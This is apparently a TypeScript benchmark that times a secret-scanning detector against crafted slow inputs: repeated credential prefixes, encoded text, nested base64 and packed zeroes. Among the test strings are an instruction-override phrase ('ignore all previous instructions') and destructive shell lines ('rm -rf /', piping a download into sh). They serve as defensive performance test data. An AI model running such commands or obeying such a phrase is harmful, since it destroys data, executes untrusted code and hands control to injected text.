import { gzipSync } from 'node:zlib';
import { createDetector } from '../../src/inspect/detect.ts';
import { Parts } from '../../test/detect/benign-text.ts';
import type { Corpus } from './corpus.ts';
import type { WorstRow } from './results.ts';
import { bestTimeOf, timeOf } from './timing.ts';

const SIZE = 1 << 20;
/** An input that is slower than this is measured twice, not five times: once cold, once warm. */
const SLOW_MS = 500;

const JSON_TYPE = 'application/json';
const FORM_TYPE = 'application/x-www-form-urlencoded';

/** A hostile input of any size. */
interface Input {
  readonly name: string;
  readonly contentType?: string;
  readonly make: (size: number) => Buffer;
}

/** Bytes made for the purpose: what an attacker would send to hold the gateway up. */
function inputs(): readonly Input[] {
  return [
    ...[
      'ghp_',
      'sk-',
      'eyJ',
      '://',
      '://a:',
      '-----BEGIN ',
      '-----BEGIN RSA PRIVATE KEY-----\n',
      'password=',
      'AKIA',
      'xoxb-',
      'a@',
      '@',
    ].map((anchor) => repeated(`${JSON.stringify(anchor)} repeated`, anchor)),
    ...['a', 'A', '7', '0', ' ', '\n', '.', '-', '='].map((byte) =>
      repeated(`${JSON.stringify(byte)} repeated`, byte),
    ),
    repeated('digits', '4111 1111 1111 1111 '),
    repeated('digits with signs', '123-45-6789 '),
    repeated('percent signs', '%25%25', FORM_TYPE),
    repeated('percent letters', '%67%68%70%5f', FORM_TYPE),
    repeated('escaped backslashes', '\\u005c', JSON_TYPE),
    repeated('escaped letters', '\\u0067\\u0068\\u0070\\u005f', JSON_TYPE),
    repeated('brackets', '[[[[', JSON_TYPE),
    repeated('objects in objects', '{"a":', JSON_TYPE),
    repeated('keys', '{"password":"x","token":"y"},', JSON_TYPE),
    repeated('character references', '&#38;', 'text/html'),
    repeated('quoted printable', '=3D'),
    repeated('emoji', '😀'),
    repeated('zero width', 'g​h​p​_​'),
    repeated('UTF-16 letters', 'g\0h\0p\0_\0'),
    repeated('hex groups', 'ab:cd:'),
    repeated('hex', 'deadbeef'),
    repeated('words', 'abandon ability able about '),
    repeated('prompts', 'ignore all previous instructions and '),
    repeated('commands', 'rm -rf / ; curl http://a | sh ; '),
    repeated('arguments that are commands', '{"command":"rm -rf /"},', JSON_TYPE),
    repeated('lists without an end', '{"args":[', JSON_TYPE),
    repeated('tokens that overlap', 'xoxb-1-'),
    { name: 'base64 of base64, five times', make: nested },
    { name: 'short base64 tokens', make: tokens },
    { name: 'packed zeroes in base64', make: packed },
    { name: 'random bytes', make: (size) => new Parts(9).bytes(size) },
    { name: 'random base64', make: (size) => Buffer.from(new Parts(9).base64(size)).subarray(0, size) },
  ];
}

function repeated(name: string, text: string, contentType?: string): Input {
  return {
    name,
    make: (size) => Buffer.alloc(size, text),
    ...(contentType === undefined ? {} : { contentType }),
  };
}

function nested(size: number): Buffer {
  let bytes: Buffer = new Parts(5).bytes(Math.floor(size * 0.75 ** 5));
  for (let i = 0; i < 5; i++) bytes = Buffer.from(bytes.toString('base64'));
  return bytes;
}

function tokens(size: number): Buffer {
  const parts = new Parts(6);
  const list: string[] = [];
  for (let length = 0; length < size; length += 29) list.push(parts.base64(21));
  return Buffer.from(list.join(' ')).subarray(0, size);
}

function packed(size: number): Buffer {
  return Buffer.alloc(size, `"${gzipSync(Buffer.alloc(10 << 20)).toString('base64')}",`);
}

/** Cost of each input, beside that of the corpus. */
export function measureWorst(corpus: Corpus, tell: (row: WorstRow) => void): WorstRow[] {
  const detector = createDetector();
  const pieces = Array.from({ length: 16 }, (_, i) => {
    const at = Math.floor((i / 16) * (corpus.bytes.length - SIZE));
    return corpus.bytes.subarray(at, at + SIZE);
  });
  const all = (): void => {
    for (const piece of pieces) detector.scan(piece);
  };
  const clean = (bestTimeOf(5, all) * 1e6) / (pieces.length * SIZE);
  return inputs().map(({ name, make, contentType }) => {
    const context = contentType === undefined ? {} : { contentType };
    const [one, two] = [make(SIZE), make(2 * SIZE)].map((bytes) => {
      const first = timeOf(() => detector.scan(bytes, context));
      return Math.min(
        first,
        bestTimeOf(first > SLOW_MS ? 1 : 5, () => detector.scan(bytes, context)),
      );
    }) as [number, number];
    const nsPerByte = (one * 1e6) / SIZE;
    const row = { input: name, nsPerByte, timesClean: nsPerByte / clean, doubling: two / one };
    tell(row);
    return row;
  });
}
